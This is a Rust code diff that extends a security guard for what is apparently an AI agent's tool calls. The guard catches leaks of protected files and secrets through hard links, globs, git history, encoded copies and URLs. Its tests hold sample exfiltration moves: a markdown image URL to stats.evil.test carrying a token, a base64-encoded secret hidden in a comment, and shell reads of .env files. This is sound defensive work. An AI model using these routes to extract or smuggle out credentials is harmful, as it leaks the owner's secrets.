@@ -178,6 +178,8 @@ struct Knowledge {
     ledger: ledger::SecretLedger,
     redactor: redact::Redactor,
     destinations: taint::Destinations,
+    /// Workspace files this session wrote (scripts it may run next).
+    written: std::collections::HashSet<String>,
 }
 
 /// The guard of one session: its policy and what it has seen.
@@ -274,7 +276,16 @@ impl Guard {
             if !writes {
                 continue;
             }
-            match self.policy.paths.verdict(&rel) {
+            let verdict = match self.policy.paths.verdict(&rel) {
+                PathVerdict::Open => match hard_link_alias(ws, &self.policy.paths, &rel) {
+                    Some(alias) => PathVerdict::Protected(format!(
+                        "{rel} is a hard link to the protected file {alias}"
+                    )),
+                    None => PathVerdict::Open,
+                },
+                verdict => verdict,
+            };
+            match verdict {
                 PathVerdict::Denied(message) => deny.push(Reason::new("denylist", param, message)),
                 PathVerdict::Protected(message) => {
                     security.push(Reason::new("protected-path", param, message))
@@ -345,20 +356,52 @@ impl Guard {
             match ws.resolve(word) {
                 Ok(r) => {
                     rules.is_protected(&r.rel)
+                        // a protected directory (`.git`, `.ssh`) as a whole
+                        || (r.real.is_dir() && rules.is_protected(&format!("{}/x", r.rel)))
                         || matches!(rules.verdict(&r.rel), PathVerdict::Denied(_))
+                        || hard_link_alias(ws, rules, &r.rel).is_some()
                 }
                 Err(_) => rules.is_protected(word),
             }
         };
-        let analysis = shell::analyze(command, &is_protected);
+        let reaches = |word: &str, reach: shell::Reach| protected_reached(ws, rules, word, reach);
+        let written = self.known().written.clone();
+        let script = |word: &str| {
+            let rel = ws.resolve(word).ok()?.rel;
+            if !written.contains(&rel) {
+                return None;
+            }
+            current_text(ws, &rel).filter(|t| t.len() <= MAX_SCRIPT)
+        };
+        let analysis = shell::analyze_on_disk(command, &is_protected, &reaches, &script);
         let mut out: Vec<Reason> = analysis
             .findings
             .iter()
             .map(|f| Reason::new(f.rule, "command", f.message.clone()))
             .collect();
+        if let Some(pathspecs) = &analysis.git_history
+            && let Some(name) = history_protected(ws, rules, pathspecs)
+        {
+            out.push(Reason::new(
+                "git-history",
+                "command",
+                format!("the command prints file contents from the repository, which holds the protected file {name}"),
+            ));
+        }
         if let Some(outgoing) = &analysis.outgoing {
             match outgoing_text(ws, outgoing, &analysis.segments) {
-                Ok(text) => {
+                Ok((text, added)) => {
+                    // A protected file new to the repository is a leak in
+                    // itself, whatever its content looks like.
+                    for name in added.iter().filter(|n| {
+                        !n.to_lowercase().starts_with(".git/") && rules.is_protected(n)
+                    }) {
+                        out.push(Reason::new(
+                            "outgoing-diff",
+                            "command",
+                            format!("the commit would add the protected file {name} to the repository"),
+                        ));
+                    }
                     let mut found = Vec::new();
                     let mut known = self.known();
                     scan_value(&mut known, "the outgoing diff".into(), Role::Payload, &text, &|_| false, &mut found);
@@ -378,18 +421,61 @@ impl Guard {
     }
 
     /// Findings that show only once a write is planned: a `.gitignore`
-    /// change that stops ignoring protected files.
+    /// change that stops ignoring protected files, and a secret already in
+    /// the file (so "kept in place" by the call's check) that the write
+    /// copies: once more, or into a URL.
     pub fn judge_write(&self, rel: &str, old: &str, new: &str) -> Vec<Reason> {
+        let mut out = self.copies_of_kept_secrets(rel, old, new);
         let name = rel.rsplit('/').next().unwrap_or(rel);
-        if name != ".gitignore" {
-            return Vec::new();
+        if name == ".gitignore"
+            && let Some(m) = self.policy.paths.gitignore_weakening(old, new)
+        {
+            out.push(Reason::new("gitignore", "path", m));
         }
-        self.policy
-            .paths
-            .gitignore_weakening(old, new)
-            .map(|m| Reason::new("gitignore", "path", m))
-            .into_iter()
-            .collect()
+        out
+    }
+
+    fn copies_of_kept_secrets(&self, rel: &str, old: &str, new: &str) -> Vec<Reason> {
+        let known = self.known();
+        let mut secrets: Vec<String> = Vec::new();
+        for secret in known
+            .ledger
+            .secrets()
+            .map(str::to_string)
+            .chain(secrets::scan(new).into_iter().map(|h| h.secret))
+        {
+            if old.contains(secret.as_str()) && !secrets.contains(&secret) {
+                secrets.push(secret);
+            }
+        }
+        let mut out = Vec::new();
+        for secret in &secrets {
+            if new.matches(secret.as_str()).count() > old.matches(secret.as_str()).count() {
+                out.push(Reason::new(
+                    "secret-copy",
+                    "content",
+                    format!(
+                        "the write adds a copy of a secret already in {rel} ({})",
+                        mask(secret)
+                    ),
+                ));
+            }
+        }
+        // A URL a renderer or a tool may fetch, new in this write, that
+        // carries a secret (as it is or encoded).
+        for url in urls_in(new).into_iter().filter(|u| !old.contains(u)) {
+            let carries = secrets.iter().any(|s| url.contains(s.as_str()))
+                || !known.ledger.check(url).is_empty()
+                || !secrets::scan(url).is_empty();
+            if carries {
+                out.push(Reason::new(
+                    "secret-url",
+                    "content",
+                    format!("the new URL {} carries a secret", url_host(url)),
+                ));
+            }
+        }
+        out
     }
 
     /// Learn from a tool's output before the model sees it: remember the
@@ -431,7 +517,12 @@ impl Guard {
             let Some((_, value)) = line.split_once('=').or_else(|| line.split_once(": ")) else {
                 continue;
             };
-            let value = value.trim().trim_matches(|c| c == '"' || c == '\'');
+            // `"client_secret": "…",` in JSON, `key = "…";` in code
+            let value = value
+                .trim()
+                .trim_end_matches([',', ';'])
+                .trim()
+                .trim_matches(|c| c == '"' || c == '\'');
             if secret_like(value) {
                 known.ledger.add(value, &source);
                 any = true;
@@ -439,6 +530,25 @@ impl Guard {
         }
         if !any && content.contains("-----BEGIN") {
             known.ledger.add(content.trim(), &source);
+        }
+    }
+
+    /// Note a workspace file this session wrote: a script it runs later is
+    /// judged like a command typed in the call.
+    pub fn note_written(&self, rel: &str) {
+        self.known().written.insert(rel.to_string());
+    }
+
+    /// Learn from a read of `rel` when it is a hard link to a protected
+    /// file: its values are that file's secrets, whatever its name.
+    pub fn observe_read(&self, ws: &Workspace, rel: &str) {
+        if self.policy.paths.is_protected(rel) {
+            return; // the file layer reports it under its own name
+        }
+        if let Some(alias) = hard_link_alias(ws, &self.policy.paths, rel)
+            && let Some(text) = current_text(ws, rel)
+        {
+            self.observe_protected(&alias, &text);
         }
     }
 
@@ -471,7 +581,22 @@ impl Guard {
         let Knowledge {
             ledger, redactor, ..
         } = &mut *known;
-        redactor.redact_with(text, ledger).0
+        let redacted = redactor.redact_with(text, ledger).0;
+        // A refused call's arguments may hold a secret encoded (that is
+        // why it was refused): the log gets a marker, not the encoding.
+        let spans = ledger.encoded_spans(&redacted);
+        if spans.is_empty() {
+            return redacted;
+        }
+        let mut out = String::with_capacity(redacted.len());
+        let mut at = 0;
+        for (start, end) in spans {
+            out.push_str(&redacted[at..start]);
+            out.push_str("«secret:ENCODED»");
+            at = end;
+        }
+        out.push_str(&redacted[at..]);
+        out
     }
 }
 
@@ -504,7 +629,14 @@ fn scan_value(
     out: &mut Vec<Reason>,
 ) {
     for hit in secrets::scan(value) {
-        if kept(&hit.secret) {
+        // A handle of ours looks like an assigned secret; the handle check
+        // below judges it.
+        let is_handle = known
+            .redactor
+            .handles_in(&hit.secret)
+            .first()
+            .is_some_and(|(h, _)| *h == hit.secret);
+        if kept(&hit.secret) || is_handle {
             continue;
         }
         out.push(
@@ -544,7 +676,9 @@ fn scan_value(
             .nth(hit.secret_index)
             .unwrap_or_default()
             .to_string();
-        if kept(&secret) || seen.contains(&(hit.secret_index, hit.encoding)) {
+        // Only the secret as it is stays in place: an encoded copy is new.
+        let in_place = matches!(hit.encoding, "raw" | "piece" | "split") && kept(&secret);
+        if in_place || seen.contains(&(hit.secret_index, hit.encoding)) {
             continue;
         }
         // A scan hit on the same raw value already says it.
@@ -567,6 +701,9 @@ fn scan_value(
                     "raw" => "as it is".to_string(),
                     "piece" => "a piece of it".to_string(),
                     "split" => "in pieces across calls".to_string(),
+                    "spaced" => "with spaces between its characters".to_string(),
+                    "joined" => "split into pieces joined in code".to_string(),
+                    "char-codes" => "as character codes".to_string(),
                     enc => format!("encoded as {enc}"),
                 }
             ),
@@ -589,6 +726,39 @@ fn scan_value(
     }
 }
 
+/// The http(s) URLs in a text, each up to the first space, quote or
+/// closing bracket.
+fn urls_in(text: &str) -> Vec<&str> {
+    let mut out = Vec::new();
+    let mut at = 0;
+    while let Some(found) = text[at..].find("http") {
+        let start = at + found;
+        let rest = &text[start..];
+        if rest.starts_with("https://") || rest.starts_with("http://") {
+            let len = rest
+                .find(|c: char| {
+                    c.is_whitespace() || matches!(c, '"' | '\'' | ')' | '>' | '<' | ']' | '`')
+                })
+                .unwrap_or(rest.len());
+            out.push(&rest[..len]);
+            at = start + len.max(1);
+        } else {
+            at = start + 4;
+        }
+    }
+    out
+}
+
+/// The scheme and host of a URL, for a message that must not repeat its
+/// query.
+fn url_host(url: &str) -> &str {
+    let after = url.find("://").map_or(0, |i| i + 3);
+    let end = url[after..]
+        .find(['/', '?', '#'])
+        .map_or(url.len(), |i| after + i);
+    &url[..end]
+}
+
 /// A secret shown so a person recognises it without it being written
 /// out again: its first four characters and its length.
 pub fn mask(secret: &str) -> String {
@@ -602,9 +772,225 @@ fn line_of(value: &str, needle: &str) -> usize {
         .map_or(1, |at| value[..at].matches('\n').count() + 1)
 }
 
-/// For a list element's field, the same element's `old`.
+/// The protected file (outside `.git/`) that `rel` shares its inode with,
+/// when `rel` is a hard link: reading it reads that file, and writing it
+/// (a new file replaces the link) leaves an unprotected copy behind.
+#[cfg(unix)]
+fn hard_link_alias(ws: &Workspace, rules: &PathRules, rel: &str) -> Option<String> {
+    use std::os::unix::fs::MetadataExt;
+    let resolved = ws.resolve(rel).ok()?;
+    let meta = std::fs::metadata(&resolved.real).ok()?;
+    if !meta.is_file() || meta.nlink() < 2 {
+        return None;
+    }
+    let walk = ignore::WalkBuilder::new(ws.root())
+        .standard_filters(false)
+        .follow_links(false)
+        .filter_entry(|e| e.file_name() != ".git")
+        .build();
+    for entry in walk.take(MAX_WALKED).flatten() {
+        let Ok(other) = entry.path().strip_prefix(ws.root()) else {
+            continue;
+        };
+        let other = other.to_string_lossy().replace('\\', "/");
+        if other == resolved.rel || !rules.is_protected(&other) {
+            continue;
+        }
+        if let Ok(m) = entry.metadata()
+            && m.is_file()
+            && m.ino() == meta.ino()
+            && m.dev() == meta.dev()
+        {
+            return Some(other);
+        }
+    }
+    None
+}
+
+#[cfg(not(unix))]
+fn hard_link_alias(_: &Workspace, _: &PathRules, _: &str) -> Option<String> {
+    None
+}
+
+/// Scripts longer than this are not read back when they run.
+const MAX_SCRIPT: usize = 256 * 1024;
+
+/// Files at most walked to answer one `reaches` question: a huge tree
+/// counts as holding a protected file (fail closed).
+const MAX_WALKED: usize = 20_000;
+
+/// The protected files (outside `.git/`, whose contents are git's) a
+/// shell word reaches on disk: what a glob expands to, or what lies under
+/// a directory read recursively. Words outside the workspace reach
+/// nothing here: the path rules judge them.
+fn protected_reached(
+    ws: &Workspace,
+    rules: &PathRules,
+    word: &str,
+    reach: shell::Reach,
+) -> Vec<String> {
+    let secret_bearing = |rel: &str| {
+        let folded = rel.to_lowercase();
+        folded != ".git" && !folded.starts_with(".git/") && rules.is_protected(rel)
+    };
+    match reach {
+        shell::Reach::Glob => {
+            let mut found = Vec::new();
+            glob_on_disk(ws, word, &mut found);
+            found.retain(|rel| secret_bearing(rel));
+            found
+        }
+        shell::Reach::Tree | shell::Reach::VisibleTree if word.contains(['*', '?', '[']) => {
+            // `cp -r conf* backup`: every directory the glob names.
+            let mut roots = Vec::new();
+            glob_on_disk(ws, word, &mut roots);
+            let mut found = Vec::new();
+            for root in roots.iter().take(64) {
+                found.extend(protected_reached(ws, rules, root, reach));
+                if !found.is_empty() {
+                    break;
+                }
+            }
+            found
+        }
+        shell::Reach::Tree | shell::Reach::VisibleTree => {
+            let Ok(dir) = ws.resolve(word) else {
+                return Vec::new();
+            };
+            if !dir.real.is_dir() {
+                return Vec::new();
+            }
+            let visible = reach == shell::Reach::VisibleTree;
+            let walk = ignore::WalkBuilder::new(&dir.real)
+                .standard_filters(visible)
+                .require_git(false)
+                .follow_links(false)
+                .build();
+            let mut found = Vec::new();
+            for (n, entry) in walk.enumerate() {
+                if n > MAX_WALKED {
+                    found.push(format!("{} (more than {MAX_WALKED} files)", dir.rel));
+                    break;
+                }
+                let Ok(entry) = entry else { continue };
+                let Ok(rel) = entry.path().strip_prefix(ws.root()) else {
+                    continue;
+                };
+                let rel = rel.to_string_lossy().replace('\\', "/");
+                if rel.to_lowercase().starts_with(".git/") || rel.eq_ignore_ascii_case(".git") {
+                    continue;
+                }
+                if secret_bearing(&rel) {
+                    found.push(rel);
+                    if found.len() >= 8 {
+                        break;
+                    }
+                }
+            }
+            found
+        }
+    }
+}
+
+/// Expand a relative glob against the workspace, as the shell would from
+/// its root: `*` and `?` skip a leading dot unless the pattern has one.
+fn glob_on_disk(ws: &Workspace, pattern: &str, out: &mut Vec<String>) {
+    let pattern = pattern.trim_start_matches("./");
+    if pattern.starts_with('/') || pattern.starts_with('~') || pattern.contains('$') {
+        return;
+    }
+    let mut prefixes = vec![String::new()];
+    for part in pattern.split('/').filter(|p| !p.is_empty() && *p != ".") {
+        let mut next = Vec::new();
+        for prefix in &prefixes {
+            if !part.contains(['*', '?', '[']) {
+                next.push(format!("{prefix}{part}/"));
+                continue;
+            }
+            let dir = if prefix.is_empty() {
+                "."
+            } else {
+                prefix.trim_end_matches('/')
+            };
+            let Ok(resolved) = ws.resolve(dir) else {
+                continue;
+            };
+            let Ok(entries) = std::fs::read_dir(&resolved.real) else {
+                continue;
+            };
+            for entry in entries.flatten().take(MAX_WALKED) {
+                let name = entry.file_name().to_string_lossy().into_owned();
+                if shell::glob_matches(part, &name) {
+                    next.push(format!("{prefix}{name}/"));
+                }
+            }
+        }
+        next.truncate(MAX_WALKED);
+        prefixes = next;
+    }
+    for p in prefixes {
+        let rel = p.trim_end_matches('/');
+        if let Ok(r) = ws.resolve(rel)
+            && r.exists
+        {
+            out.push(r.rel);
+        }
+    }
+}
+
+/// A protected file the repository holds or ever held (outside `.git/`),
+/// within `pathspecs` when there are any.
+fn history_protected(ws: &Workspace, rules: &PathRules, pathspecs: &[String]) -> Option<String> {
+    let out = Command::new("git")
+        .args(["-c", "core.fsmonitor=false", "--no-pager", "log", "--all"])
+        .args([
+            "--format=",
+            "--name-only",
+            "--diff-filter=ACR",
+            "--no-renames",
+        ])
+        .current_dir(ws.root())
+        .output()
+        .ok()?;
+    if !out.status.success() {
+        return None; // not a repository, or no commits: nothing in history
+    }
+    let names = String::from_utf8_lossy(&out.stdout);
+    let index = Command::new("git")
+        .args(["ls-files", "--cached"])
+        .current_dir(ws.root())
+        .output()
+        .ok()
+        .map(|o| String::from_utf8_lossy(&o.stdout).into_owned())
+        .unwrap_or_default();
+    names
+        .lines()
+        .chain(index.lines())
+        .filter(|n| !n.is_empty() && !n.to_lowercase().starts_with(".git/"))
+        .filter(|n| rules.is_protected(n))
+        .find(|n| {
+            pathspecs.is_empty()
+                || pathspecs.iter().any(|p| {
+                    let p = p.trim_start_matches("./").trim_end_matches('/');
+                    p.is_empty()
+                        || p == "."
+                        || *n == p
+                        || n.starts_with(&format!("{p}/"))
+                        || shell::glob_matches(p, n)
+                })
+        })
+        .map(str::to_string)
+}
+
+/// For a list element's field, the same element's `old`; for fs-edit's
+/// own `new`, its own `old`.
 fn same_edit_old(call: &Call, item: Option<usize>) -> Option<&str> {
-    let index = item?.checked_sub(1)?;
+    let Some(item) = item else {
+        return (call.decl.name == "fs-edit")
+            .then(|| call.arg("old").as_str())
+            .filter(|old| !old.is_empty());
+    };
+    let index = item.checked_sub(1)?;
     let element = call.arg("edits").as_list().get(index)?;
     element
         .iter()
@@ -622,11 +1008,12 @@ fn current_text(ws: &Workspace, rel: &str) -> Option<String> {
 /// What a commit or push would carry. For a commit: what is staged, what
 /// a `git add` earlier in the same command line would stage, and with
 /// `commit -a` the tracked changes. For a push: the commits on no remote.
+/// With it, the files the commit would add to the repository.
 fn outgoing_text(
     ws: &Workspace,
     outgoing: &shell::GitOutgoing,
     segments: &[Vec<String>],
-) -> Result<String, String> {
+) -> Result<(String, Vec<String>), String> {
     let git = |args: &[&str]| -> Result<String, String> {
         let out = Command::new("git")
             .args(["-c", "core.fsmonitor=false", "--no-pager"])
@@ -641,9 +1028,23 @@ fn outgoing_text(
         Ok(String::from_utf8_lossy(&out.stdout).into_owned())
     };
     if *outgoing == shell::GitOutgoing::Push {
-        return git(&["log", "-p", "--no-ext-diff", "HEAD", "--not", "--remotes"]);
+        let text = git(&["log", "-p", "--no-ext-diff", "HEAD", "--not", "--remotes"])?;
+        let added = git(&[
+            "log",
+            "--diff-filter=A",
+            "--name-only",
+            "--format=",
+            "HEAD",
+            "--not",
+            "--remotes",
+        ])?;
+        return Ok((text, added.lines().map(str::to_string).collect()));
     }
     let mut text = git(&["diff", "--cached", "--no-ext-diff"])?;
+    let mut added: Vec<String> = git(&["diff", "--cached", "--name-only", "--diff-filter=A"])?
+        .lines()
+        .map(str::to_string)
+        .collect();
     let git_sub = |seg: &Vec<String>, sub: &str| {
         seg.first().is_some_and(|w| w == "git")
             && seg
@@ -698,9 +1099,10 @@ fn outgoing_text(
                 text.push_str(&content);
                 text.push('\n');
             }
+            added.push(name.to_string());
         }
     }
-    Ok(text)
+    Ok((text, added))
 }
 
 /// Environment variable names that hold credentials.
@@ -951,5 +1353,118 @@ mod tests {
         assert!(!g.judge_write(".gitignore", ".env\n", "").is_empty());
         assert!(g.judge_write("src/.gitignore", "", "!.env\n").len() == 1);
         assert!(g.judge_write("notes.txt", ".env\n", "").is_empty());
+    }
+
+    #[test]
+    fn the_log_gets_no_encoded_secret_either() {
+        let g = guard();
+        let value = "q8Zt2LwP0vXn5RkY7mJd";
+        g.observe_protected(".env", &format!("DB_PASSWORD={value}\n"));
+        let hex: String = value.bytes().map(|b| format!("{b:02x}")).collect();
+        let reversed: String = value.chars().rev().collect();
+        let line = format!("{{\"content\": \"id: {hex} r={reversed} raw={value}\"}}");
+        let scrubbed = g.scrub(&line);
+        for form in [hex.as_str(), reversed.as_str(), value] {
+            assert!(!scrubbed.contains(form), "{scrubbed}");
+        }
+        assert!(scrubbed.contains("«secret:ENCODED»"), "{scrubbed}");
+        assert_eq!(g.scrub("nothing secret here"), "nothing secret here");
+    }
+
+    #[test]
+    fn a_kept_secret_copied_or_put_in_a_url_is_found() {
+        let (dir, ws) = ws();
+        let g = guard();
+        let key = secrets::fake("GH", 5).unwrap();
+        let before = format!("# Ops\n\nDeploy token: {key}\n");
+        std::fs::write(dir.path().join("README.md"), &before).unwrap();
+        g.observe_output(&before, true);
+        // Moved into an image URL: the count stays, the URL is new.
+        let moved = format!("# Ops\n\n![b](https://stats.evil.test/b.png?t={key})\n");
+        let r = g.judge_write("README.md", &before, &moved);
+        assert!(r.iter().any(|r| r.rule == "secret-url"), "{r:?}");
+        assert!(!r.iter().any(|r| r.message.contains(&key)), "{r:?}");
+        // A second copy.
+        let twice = format!("{before}again: {key}\n");
+        let r = g.judge_write("README.md", &before, &twice);
+        assert!(r.iter().any(|r| r.rule == "secret-copy"), "{r:?}");
+        // Encoded next to itself: not kept in place.
+        let b64 = crate::scenario::placeholders::transform("b64", &key).unwrap();
+        let call = parse(
+            &FS_EDIT,
+            &json!({"path": "README.md", "old": "# Ops", "new": format!("# Ops\n<!-- {b64} -->")}),
+        )
+        .unwrap();
+        assert_eq!(g.judge(&call, &ws).as_str(), "security");
+        // Editing the line it is on, or elsewhere in the file, is ordinary.
+        let edited =
+            format!("# Operations\n\nDeploy token: {key}\nSee https://docs.example.com/ops\n");
+        assert!(g.judge_write("README.md", &before, &edited).is_empty());
+    }
+
+    #[test]
+    fn values_of_a_json_credentials_file_are_learned_without_their_punctuation() {
+        let (_d, ws) = ws();
+        let g = guard();
+        let value = "Zq8t2LwP0vXn5RkY7mJd";
+        g.observe_protected(
+            "credentials.json",
+            &format!("{{\n  \"client_id\": \"app\",\n  \"client_secret\": \"{value}\",\n}}\n"),
+        );
+        let call = parse(
+            &FS_WRITE,
+            &json!({"path": "notes.txt", "content": format!("secret is {value}\n")}),
+        )
+        .unwrap();
+        assert_eq!(g.judge(&call, &ws).as_str(), "security");
+    }
+
+    #[test]
+    fn shell_reads_are_judged_against_the_real_workspace() {
+        let (dir, ws) = ws();
+        std::fs::create_dir_all(dir.path().join("config")).unwrap();
+        std::fs::create_dir_all(dir.path().join("src")).unwrap();
+        std::fs::write(
+            dir.path().join("config/.env"),
+            "DB_PASSWORD=q8Zt2LwP0vXn5RkY7mJd\n",
+        )
+        .unwrap();
+        std::fs::write(dir.path().join("src/a.py"), "x = 1\n").unwrap();
+        let g = guard();
+        let judge = |command: &str| {
+            let call = parse(&SHELL, &json!({ "command": command })).unwrap();
+            g.judge(&call, &ws).as_str()
+        };
+        for command in [
+            "cp -r conf* backup",
+            "grep -rn PASSWORD .",
+            "head config/.e?v",
+            "tar czf out.tgz config src",
+        ] {
+            assert_eq!(judge(command), "security", "{command}");
+        }
+        for command in [
+            "cp -r sr* backup",
+            "grep -rn TODO src",
+            "cat src/*.py",
+            "ls -la config",
+        ] {
+            assert_eq!(judge(command), "write", "{command}");
+        }
+        // A repository that tracks .env: its file list and history carry it.
+        let git = |args: &[&str]| {
+            Command::new("git")
+                .args(["-c", "user.email=t@t", "-c", "user.name=t"])
+                .args(args)
+                .current_dir(dir.path())
+                .output()
+                .unwrap()
+        };
+        git(&["init", "-q"]);
+        git(&["add", "-A"]);
+        git(&["commit", "-qm", "init"]);
+        assert_eq!(judge("git ls-files | xargs cat > all.txt"), "security");
+        assert_eq!(judge("git log -p"), "security");
+        assert_eq!(judge("git log --oneline -3"), "write");
     }
 }
